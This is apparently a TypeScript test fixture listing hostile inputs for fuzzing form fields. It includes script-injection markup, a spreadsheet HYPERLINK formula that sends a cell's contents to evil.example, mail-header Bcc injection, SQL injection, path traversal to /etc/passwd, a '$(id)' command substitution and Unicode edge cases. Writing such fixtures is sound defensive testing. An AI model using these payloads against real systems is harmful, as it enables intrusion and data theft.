/** What people with bad intent, and some with none, type into fields and put into addresses. */

/** In every text that tries to become more than text: nothing of that name is ever an element, an attribute or a header of an answer. */
export const mark = 'x-planted';

const repeat = (text: string, times: number): string => text.repeat(times);

/** Each sort has several texts, which the fields of forms are given in turn. */
export const hostileTexts: Readonly<Record<string, readonly string[]>> = {
  markup: [
    `"><${mark} ${mark}=1><img src=x onerror=${mark}()><script>${mark}()</script></textarea></title><svg onload=${mark}()>'`,
    `</script><script>${mark}()</script><!--<script>${mark}`,
    `x" onfocus="${mark}()" autofocus ${mark}="1`,
    `javascript:${mark}()//\u2028\u2029`,
    `&lt;${mark}&gt;&#60;${mark}&#x3e; \${${mark}} {{${mark}}} <![CDATA[<${mark}>]]>`,
  ],
  'formulas of spreadsheets, and lines of mail headers': [
    '=HYPERLINK("https://evil.example/"&A1)',
    `Roe\r\nBcc: ${mark}@evil.example\r\n\r\nbody`,
    '+1+cmd|x',
    '-2+3',
    `Roe\nX-Planted: ${mark}`,
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    `=?utf-8?B?DQpCY2M6IHg=?= ${mark}`,
    '\uFF1D1+1',
    '\u200B=1+1',
    ' "=1+1";=1+1',
  ],
  'turned directions, long words, marks upon marks': [
    'invoice\u202Efdp.exe',
    repeat('w', 10_000),
    '\u2066\u2067\u2068unclosed',
    `e${repeat('\u0301', 2_000)}`,
    '\u202E\u202D\u061C\u200F\u200E',
    repeat('\u200B\u200D\uFEFF\u2060', 500),
    repeat('👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿', 40),
    '\u00A0\u3000\u2003',
    '🇬🇧🇬👍🏽\uFE0F\u200D',
  ],
  'characters that control': ['Ann\0Roe', '\uD800', '\0', 'a\uDC00b', '\u0001\u0007\u0008\u001B[31mred\u007F', 'tail\uDBFF', '\u0085\u0090\u009F', '\uFFFE\uFFFF\u{10FFFF}', '\u000B\u000C'], // prettier-ignore
  'numbers and days that are none': ['1e309', '2026-02-30', 'NaN', '99999-01-01', '-Infinity', '0000-00-00', '99999999999999999999', '275760-09-14', '0x1F', '2026-1-1', '٣', '31', '-0', '2147483648'], // prettier-ignore
  'names and words that mean something to programs': ['__proto__', `'; drop table enquiry; --`, 'constructor', `%' or '1'='1`, 'toString', '%_%', 'hasOwnProperty', '../../etc/passwd', 'undefined', '//evil.example/', '%00', '%0d%0aSet-Cookie:x=y', 'null', '$(id)'], // prettier-ignore
};

/** Sorts that one database takes and another does not. */
export const forDatabases: ReadonlySet<string> = new Set(['characters that control', 'numbers and days that are none']);
